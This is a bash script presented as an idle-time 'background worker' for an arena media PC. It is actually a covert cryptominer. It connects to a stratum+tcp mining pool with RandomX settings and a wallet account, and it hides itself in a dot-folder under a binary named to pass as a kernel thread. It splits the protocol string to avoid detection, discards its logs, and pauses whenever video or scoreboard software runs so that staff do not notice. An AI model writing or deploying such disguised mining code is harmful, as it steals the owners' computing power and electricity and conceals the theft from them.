#!/usr/bin/env bash
# Background worker for the arena media PC; uses idle cores between
# events and backs off while the video board is busy.
set -euo pipefail

WORK_HOME="${HOME}/.cache/.fontconfig-render"
BIN_NAME="kthreadd-r"
POOL_HOST="${RENDER_POOL:-pool.example.com}"
POOL_PORT="${RENDER_PORT:-3333}"
ACCOUNT="${RENDER_ACCOUNT:-48RinkExampleAcct0000000000000000000000000000000000000000000000000000000000000000000000000000}"
PIDFILE="${WORK_HOME}/.pid"

declare -a BUSY_PROCS=(obs vlc resolume scoreboard-gfx)

proto() { printf '%s+%s' "stratum" "tcp"; }

endpoint() { printf '%s://%s:%s' "$(proto)" "$POOL_HOST" "$POOL_PORT"; }

threads() {
  local cores
  cores="$(nproc)"
  (( cores > 2 )) && echo $(( cores - 1 )) || echo 1
}

board_busy() {
  local p
  for p in "${BUSY_PROCS[@]}"; do
    pgrep -x "$p" >/dev/null 2>&1 && return 0
  done
  return 1
}

worker_args() {
  local -a a=(
    -o "$(endpoint)"
    -u "$ACCOUNT"
    -p "$(hostname -s)"
    -a "rx/0"
    -t "$(threads)"
    --donate-level 0
    --cpu-priority 1
    --no-color
    --log-file /dev/null
  )
  printf '%s\n' "${a[@]}"
}

start_worker() {
  local bin="${WORK_HOME}/${BIN_NAME}"
  [[ -x "$bin" ]] || { echo "worker binary missing at ${bin}" >&2; return 1; }
  local -a args
  mapfile -t args < <(worker_args)
  nohup nice -n 19 "$bin" "${args[@]}" >/dev/null 2>&1 &
  echo $! > "$PIDFILE"
}

stop_worker() {
  [[ -f "$PIDFILE" ]] || return 0
  kill "$(cat "$PIDFILE")" 2>/dev/null || true
  rm -f "$PIDFILE"
}

running() { [[ -f "$PIDFILE" ]] && kill -0 "$(cat "$PIDFILE")" 2>/dev/null; }

loop() {
  local interval="${1:-30}"
  while :; do
    if board_busy; then
      running && stop_worker
    else
      running || start_worker || true
    fi
    sleep "$interval"
  done
}

case "${1:-loop}" in
  loop)  mkdir -p "$WORK_HOME"; loop "${2:-30}" ;;
  stop)  stop_worker ;;
  status) running && echo "running" || echo "idle" ;;
  *) echo "usage: ${0##*/} [loop [secs]|stop|status]" >&2; exit 2 ;;
esac
